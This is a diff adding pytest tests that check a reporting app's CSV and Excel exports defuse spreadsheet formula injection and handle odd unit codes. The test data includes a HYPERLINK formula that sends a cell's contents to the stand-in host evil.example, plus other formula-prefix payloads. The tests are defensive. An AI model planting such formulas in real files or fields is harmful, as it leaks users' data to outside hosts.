@@ -416,3 +416,40 @@ def test_the_dashboard_page_says_when_its_figures_were_counted(app, world, peopl
     result = app.test_cli_runner().invoke(args=["reports", "refresh"])
     assert result.exit_code == 0 and "reporting snapshot refreshed" in result.output
     assert "Số liệu được tính lúc" in organiser.get("/reports/units/P/").get_data(as_text=True)
+
+
+# Review fixes: exports of hostile names and unusual unit codes.
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-3+4", "@SUM(1)",
+            "\t=1+1"]
+
+
+def test_exports_never_turn_a_name_or_position_into_a_formula(world, people):
+    for index, text in enumerate(FORMULAS):
+        world.person(text, "P-C2", position=text if index % 2 else None)
+    client = world.client(people["organiser"])
+    csv_text = client.get("/reports/units/P/people.csv").data.decode("utf-8-sig")
+    import csv as csv_module
+    cells = [cell for row in csv_module.reader(io.StringIO(csv_text)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + FORMULAS[0] in cells
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/units/P/people.xlsx").data))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert FORMULAS[0] in [cell.value for cell in cells]
+
+
+@pytest.mark.parametrize("code", ["P:1[2]", "PHƯỜNG-BA", 'P"x'])
+def test_exports_work_for_any_unit_code(world, people, code):
+    with world.app.app_context():
+        add_units(db.session, [{"code": code, "name": "Đơn vị lạ", "parent_code": "P",
+                                "kind": "ward"}])
+        db.session.commit()
+    world.person("Người Ở Đơn Vị Lạ", code)
+    client = world.client(people["organiser"])
+    from urllib.parse import quote
+    for what, fmt in itertools.product(("people", "units"), ("csv", "xlsx")):
+        response = client.get(f"/reports/units/{quote(code)}/{what}.{fmt}")
+        assert response.status_code == 200, (what, fmt)
+        # A WSGI server sends headers as Latin-1 and refuses anything else.
+        response.headers["Content-Disposition"].encode("ascii")
